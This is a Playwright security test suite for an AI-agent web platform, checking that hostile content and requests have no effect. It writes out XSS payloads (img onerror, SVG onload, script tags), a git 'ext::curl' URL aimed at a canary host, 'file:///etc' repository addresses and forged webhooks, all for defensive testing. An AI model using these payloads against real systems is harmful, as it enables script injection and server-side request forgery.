/**
 * The battery of hostile content: what an agent, a repository, a program or a foreign page may try on
 * the page of a person, and which test sees it fail. Nothing here may reach the canary.
 *
 *  1  a program sets the terminal's title          machine "hostile output gets no answer…"; agentHostile
 *  2  … writes the clipboard                       machine "hostile output…"; agentHostile
 *  3  … prints a link under another name           machine "hostile output…"; agentHostile
 *  4  … moves the cursor, rewrites lines           agentHostile ("REWRITTENgone"); ansi.test
 *  5  a line, a file, a change of 100 MB           here, four tests
 *  6  images and addresses in agents' text         agentHostile; here "…names…"
 *  7  a link whose text names another host         agentHostile ("Leave Errand?")
 *  8  HTML and its comments in agents' text        agentHostile; here "…names…"
 *  9  scripts by way of text                       foreign "a page may run nothing…"; agentHostile; here "…names…"
 * 10  sockets of foreign pages, without origin     foreign "another site…"; live.rs "a_socket_is_opened_by_our_own_page…"
 * 11  a foreign name for this host                 foreign "another name…"; door.rs "a_foreign_host_…"
 * 13  a preview reads our cookies                  preview "a preview lives on an origin of its own…"
 * 14  a preview registers a service worker         preview "a preview lives on an origin of its own…"
 * 15  a foreign page starts an agent               foreign "another site…"; door.rs "a_cross_site_request_…"
 * 16  a webhook sent twice, or unsigned            here: none is taken at all
 * 17  addresses that the server should fetch       here; of a repository's address only the form is judged
 * 18  somebody who only looks types                here "…a watcher's keys…"
 * 21  JSON that is deep, bodies that are packed    foreign "bodies that are too deep…"; door.rs "deep_packed_…"
 *
 * 12, 19 and 20 are about several organisations and roles, which come with teams.
 */
import type { Page } from "@playwright/test";
import type { Agent } from "../src/api/types";
import { expect, sidebar, signIn, test } from "./kit";
import { Canary } from "./kit/canary";
import { type House, until } from "./kit/house";
import { letThrough, work } from "./kit/work";

test.skip(
  ({ viewport, colorScheme }) => (viewport?.width ?? 0) < 1000 || colorScheme === "dark",
  "size and theme change nothing here",
);

const HUGE_BYTES = 100_000_000;
const HUGE_LINE = `head -c ${HUGE_BYTES} /dev/zero | tr '\\0' x`;
/** As large as a file may be to be opened for editing, in one line. */
const LONG_LINE = "head -c 4900000 /dev/zero | tr '\\0' y";
/** Making and moving so much takes its time beside other work. */
const PATIENCE_MS = 240_000;

let canary: Canary;
let trap = "";

test.beforeAll(async () => {
  canary = new Canary();
  trap = await canary.listen();
});

test.afterEach(() => expect(canary.seen, "requests that reached the canary").toEqual([]));
test.afterAll(() => canary.close());

/** Notes the longest time for which the page did nothing, from now on. */
async function watchPulse(page: Page): Promise<() => Promise<void>> {
  await page.evaluate(() => {
    let last = performance.now();
    const beat = () => {
      const now = performance.now();
      const longest = Number(Reflect.get(window, "longestPause") ?? 0);
      Reflect.set(window, "longestPause", Math.max(longest, now - last));
      last = now;
      setTimeout(beat, 10);
    };
    beat();
  });
  return async () => {
    const pause = Number(await page.evaluate(() => Reflect.get(window, "longestPause")));
    const description = `${pause.toFixed(0)} ms`;
    test.info().annotations.push({ type: "longest pause of the page", description });
    process.stdout.write(`longest pause of the page: ${description}\n`);
  };
}

/** The page answers keys: the palette opens, finds something and closes. */
async function expectAlive(page: Page) {
  await page.keyboard.press("Control+k");
  await page.getByPlaceholder("Search agents and commands…").fill("background");
  await expect(page.getByRole("menuitem", { name: "All cloud agents" })).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(page.getByPlaceholder("Search agents and commands…")).toHaveCount(0);
}

/** Like `work`, but with the time that so many bytes take. */
async function workAtLength(
  house: House,
  name: string,
  shell: string,
  { repo, ends = "FINISHED" }: { repo?: string; ends?: string } = {},
) {
  const turns = [{ calls: [{ shell }] }, { text: "Done." }];
  const { agent } = await house.call<{ agent: Agent }>("POST", "/v1/agents", {
    prompt: { text: `script: ${JSON.stringify({ turns })}` },
    name,
    ...(repo !== undefined && { repos: [{ url: repo }] }),
  });
  const now = () => house.call<Agent>("GET", `/v1/agents/${agent.id}`);
  await expect.poll(async () => (await now()).status, { timeout: PATIENCE_MS }).toBe("IDLE");
  expect((await now()).latestRunStatus).toBe(ends);
  return agent;
}

async function wake(house: House, { id }: Agent) {
  await house.call("POST", `/v1/agents/${id}/wake`);
  await until(
    async () => (await house.call<Agent>("GET", `/v1/agents/${id}`)).sandbox.state === "up",
    () => "the machine does not come up",
  );
}

test("a command that prints a line of 100 MB: the page lives, and says what is left out", async ({
  page,
  house,
}) => {
  test.setTimeout(PATIENCE_MS);
  const shell = `echo begin; ${HUGE_LINE}; echo; sleep 2`;
  const turns = [{ text: "Printing.", calls: [{ shell }] }, { text: "Printed." }];
  const { agent } = await house.call<{ agent: Agent }>("POST", "/v1/agents", {
    prompt: { text: `Print.\nscript: ${JSON.stringify({ turns })}` },
    name: "Print a lot",
  });
  await page.goto(`/agents/${agent.id}`);
  const talk = page.getByRole("region", { name: "Conversation" });
  await expect(talk.getByText("Printing.", { exact: true })).toBeVisible();
  const pulse = await watchPulse(page);
  await expectAlive(page);
  await expect(talk.getByText("Printed.", { exact: true })).toBeVisible({ timeout: PATIENCE_MS });
  await expect(talk.getByText("Done", { exact: true })).toBeVisible();
  await talk.getByRole("button", { name: /Run echo begin/ }).click();
  await expect(talk.getByText(/more characters|left out|not shown/).first()).toBeAttached();
  await expectAlive(page);
  await pulse();
});

test("a file of 100 MB is not opened and can be fetched; one endless line is", async ({
  page,
  house,
}) => {
  test.setTimeout(PATIENCE_MS);
  const shell = `cd /workspace && mkdir -p .artifacts && ${HUGE_LINE} > huge.txt && ${LONG_LINE} > line.txt && head -c 60000000 huge.txt > .artifacts/line.log`;
  const agent = await workAtLength(house, "Write a lot", shell);
  await wake(house, agent);
  await page.goto(`/agents/${agent.id}/machine/files`);
  const pulse = await watchPulse(page);
  const files = page.getByRole("region", { name: "Folders and files" });
  await files.getByRole("button", { name: /^huge\.txt/ }).click();
  await expect(page.getByText("this file is too large to be shown")).toBeVisible();
  await expect(page.getByRole("link", { name: "Download" })).toBeVisible();
  const head = await page.evaluate(async (path) => {
    const answer = await fetch(path);
    await answer.body?.cancel();
    return [answer.status, answer.headers.get("content-length")];
  }, `/v1/agents/${agent.id}/files/content?path=/workspace/huge.txt`);
  expect(head).toEqual([200, String(HUGE_BYTES)]);

  await files.getByRole("button", { name: /^line\.txt/ }).click();
  await expect(page.getByRole("textbox", { name: /Text of/ })).toContainText("yyyy");
  await expectAlive(page);
  await pulse();

  await page.goto(`/agents/${agent.id}/machine/artifacts`);
  await page.getByRole("button", { name: "Open line.log" }).click();
  await expect(page.getByText(/^The beginning, .* is not shown/)).toBeVisible();
  await page.keyboard.press("Escape");
  await expectAlive(page);
});

test("a terminal takes a line of 100 MB and goes on", async ({ page, house }) => {
  test.setTimeout(PATIENCE_MS);
  const agent = await work(house, undefined, [{ text: "Done." }], { name: "Flood a terminal" });
  await wake(house, agent);
  await page.goto(`/agents/${agent.id}/machine/terminal`);
  await openTerminal(page);
  const pulse = await watchPulse(page);
  await page.keyboard.type(`${HUGE_LINE}; echo; echo end-$((1+1))\n`);
  const rows = page.locator(".xterm-rows");
  await expect(rows).toContainText("xxxx");
  await expect(rows).toContainText("end-2", { timeout: PATIENCE_MS });
  await page.keyboard.type("echo still-$((1+1))\n");
  await expect(rows).toContainText("still-2");
  await pulse();
});

test("changes of 100 MB are listed, their lines left out in words", async ({ page, house }) => {
  test.setTimeout(PATIENCE_MS);
  const repo = house.repository(`huge-${Date.now()}`);
  const shell = `${LONG_LINE} > a-line.txt && ${HUGE_LINE} > huge.txt && echo small > small.txt`;
  const agent = await workAtLength(house, "Change a lot", shell, { repo, ends: "ERROR" });
  await page.goto(`/agents/${agent.id}/changes`);
  const lines = page.getByRole("region", { name: "Changed lines" });
  await expect(page.getByText("These changes are very large.")).toBeVisible();
  await expect(page.getByText("0 of 3 viewed")).toBeAttached();
  const pulse = await watchPulse(page);
  await expect(lines.getByText("This is a large change, so it is folded.")).toBeVisible();
  await lines.getByRole("button", { name: "Show the lines" }).first().click();
  await expect(lines.getByText(/4,898,000 more characters/)).toBeVisible();
  await expect(lines.getByText(/too large to send/).first()).toBeVisible();
  await expectAlive(page);
  await pulse();
});

test("hostile names, texts and pictures stand on every page and do nothing", async ({
  page,
  house,
}) => {
  test.setTimeout(120_000);
  const script = "<img src=x onerror=window.pwned=1>";
  const svg = `<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='window.pwned=2'><image href='${trap}/svg.png' width='9' height='9'/><script>window.pwned=3</script></svg>`;
  const html = `<script>window.pwned=4</script><img src='${trap}/html.png'>`;
  const body = `# ${script}\n\n![pixel](${trap}/body.png) <script src="${trap}/s.js"></script>\n\n[ref]: ${trap}/ref`;
  const put = (path: string, content: string) => ({ write: { path, content } });
  const turns = [
    {
      calls: [
        put(`${script}.md`, body),
        put("dir\u202Eexe.txt", `${html}\n`),
        put("page.html", html),
        put("drawing.svg", svg),
        put("/workspace/.artifacts/drawing.svg", svg),
        put("/workspace/.artifacts/page.html", html),
        put(`/workspace/.artifacts/${script}.log`, `${html}\n\u001b]0;title\u0007`),
        { shell: `git commit -qam '${script} ![c](${trap}/commit.png)' || true` },
      ],
    },
    { text: body },
  ];
  const name = `hostile-${Date.now()}`;
  const agent = await work(house, house.repository(name), turns, {
    name: `${script} ${name}`,
    autoCreatePR: true,
    ends: "ERROR",
  });
  await letThrough(house, agent.id, [{ text: body }]);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const expectNothing = async () => {
    expect(await page.evaluate(() => Reflect.get(window, "pwned"))).toBeUndefined();
    expect(await page.locator("script[src^='http'], iframe, object, embed").count()).toBe(0);
    expect(page.context().pages()).toHaveLength(1);
    expect(dialogs).toEqual([]);
  };
  await page.goto("/");
  await expect((await sidebar(page)).getByRole("link", { name: new RegExp(name) })).toBeVisible();
  await page.keyboard.press("Control+k");
  await page.getByPlaceholder("Search agents and commands…").fill(name);
  await expect(page.getByRole("menuitem", { name: new RegExp(name) }).first()).toBeVisible();
  await expectNothing();

  await page.goto(`/agents/${agent.id}/changes`);
  const lines = page.getByRole("region", { name: "Changed lines" });
  await expect(lines.getByText("window.pwned=4").first()).toBeVisible();
  await expect(page.getByText(/dir⟦U\+202E⟧exe\.txt/).first()).toBeVisible();
  await expectNothing();

  await page.goto(`/agents/${agent.id}/pull-requests/1`);
  await expect(page.getByRole("button", { name: "Merge" })).toBeVisible();
  await expect(lines.getByText("window.pwned=4").first()).toBeVisible();
  await expectNothing();

  await wake(house, agent);
  await page.goto(`/agents/${agent.id}/machine/artifacts`);
  for (const artifact of ["drawing.svg", "page.html", `${script}.log`]) {
    await page.getByRole("button", { name: `Open ${artifact}` }).click();
    await expect(page.getByRole("dialog")).toBeVisible();
    await expect(page.getByRole("dialog").locator("img, pre")).toBeVisible();
    await expectNothing();
    await page.keyboard.press("Escape");
  }
  await page.goto(`/agents/${agent.id}/machine/files`);
  const files = page.getByRole("region", { name: "Folders and files" });
  await files.getByRole("button", { name, exact: true }).click();
  for (const file of ["drawing.svg", "page.html"]) {
    await files.getByRole("button", { name: new RegExp(`^${file}`) }).click();
    await expect(page.getByRole("textbox", { name: /Text of/ })).toContainText("window.pwned");
    await expectNothing();
  }
  const raw = await page
    .goto(`/v1/agents/${agent.id}/files/content?path=/workspace/${name}/page.html`)
    .catch((error: Error) => error.message);
  expect(String(raw)).toContain("Download is starting");
  await expectNothing();
});

test("no address in a request is fetched for anybody, and webhooks are not taken", async ({
  house,
}) => {
  const agents = async () =>
    (await house.call<{ items: Agent[] }>("GET", "/v1/agents")).items.length;
  const before = await agents();
  const post = async (path: string, body: object, token = house.token) => {
    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
    const request = { method: "POST", headers, body: JSON.stringify(body) };
    return (await fetch(house.server + path, request)).status;
  };
  const prompt = { text: "Fetch this." };
  const hostile: Record<string, object> = {
    "an image": { prompt: { ...prompt, images: [{ url: `${trap}/image.png` }] } },
    "an MCP server": { prompt, mcpServers: [{ name: "docs", url: `${trap}/mcp` }] },
    "a pull request": { prompt, repos: [{ url: "/srv/x.git", prUrl: `${trap}/pull/1` }] },
    "a webhook": { prompt, webhook: { url: `${trap}/hook`, secret: "x".repeat(32) } },
    "a program instead of a repository": { prompt, repos: [{ url: `ext::curl ${trap}/ext` }] },
    "a password in an address": {
      prompt,
      repos: [{ url: `${trap.replace("//", "//ada:secret@")}/x.git` }],
    },
  };
  for (const [what, body] of Object.entries(hostile)) {
    expect([400, 501], what).toContain(await post("/v1/agents", body));
  }
  const { token } = await house.call<{ token: string }>("POST", "/v1/api-keys", { name: "bo" });
  for (const url of ["/etc", "file:///etc", house.data]) {
    expect(await post("/v1/agents", { prompt, repos: [{ url }] }, token), url).toBe(403);
  }
  for (const path of ["/v1/webhooks", "/webhooks/github", "/v1/hooks/x"]) {
    const send = () =>
      fetch(house.server + path, {
        method: "POST",
        headers: { "x-hub-signature-256": "sha256=0", "x-github-delivery": "1" },
        body: JSON.stringify({ action: "opened", issue: { body: "Start." } }),
      });
    const statuses = [(await send()).status, (await send()).status];
    for (const status of statuses) expect([401, 403, 404, 405], path).toContain(status);
  }
  expect(await agents()).toBe(before);
});

test("a watcher's keys do not reach the terminal, whatever the watcher's page says", async ({
  page,
  house,
  stranger,
}) => {
  const agent = await work(house, undefined, [{ text: "Done." }], { name: "Type alone" });
  await wake(house, agent);
  await page.goto(`/agents/${agent.id}/machine/terminal`);
  await openTerminal(page);
  const { token } = await house.call<{ token: string }>("POST", "/v1/api-keys", { name: "eve" });
  await signIn(stranger, house, token);
  await stranger.goto("/settings/appearance");
  const said = await stranger.evaluate(typeUnasked, `/v1/agents/${agent.id}/terminals/main/socket`);
  expect(said).toContainEqual(expect.objectContaining({ type: "error", code: "read_only" }));
  expect(said).not.toContainEqual(expect.objectContaining({ type: "state", you: true }));
  await page.keyboard.type("echo after-$((1+1))\n");
  const rows = page.locator(".xterm-rows");
  await expect(rows).toContainText("after-2");
  await expect(rows).not.toContainText("unasked");
});

/** In the page: types into a terminal without having taken it over; what the server says to that. */
async function typeUnasked(path: string): Promise<object[]> {
  const headers = { "content-type": "application/json", "x-errand-client": "web" };
  const made = await fetch("/v1/tickets", { method: "POST", headers, body: "{}" });
  const { ticket } = await made.json();
  const url = new URL(path, location.origin.replace(/^http/, "ws"));
  const socket = new WebSocket(url, ["errand.terminal.v1", `ticket.${ticket}`]);
  socket.binaryType = "arraybuffer";
  const said: { type: string }[] = [];
  await new Promise<void>((done) => {
    socket.onclose = () => done();
    socket.onmessage = ({ data }) => {
      if (typeof data !== "string") return;
      const message = JSON.parse(data);
      said.push(message);
      if (message.type === "error") return done();
      for (const words of ["echo unasked\n", "\u0003", "exit\n"]) {
        socket.send(new TextEncoder().encode(words));
      }
    };
  });
  socket.close();
  return said;
}

/** Opens a terminal and types in it. */
async function openTerminal(page: Page) {
  await page.getByRole("button", { name: /Open (a|another) terminal/ }).click();
  await expect(page.getByText("You are typing", { exact: true })).toBeVisible();
  await expect(page.locator(".xterm-rows")).toContainText("$");
}
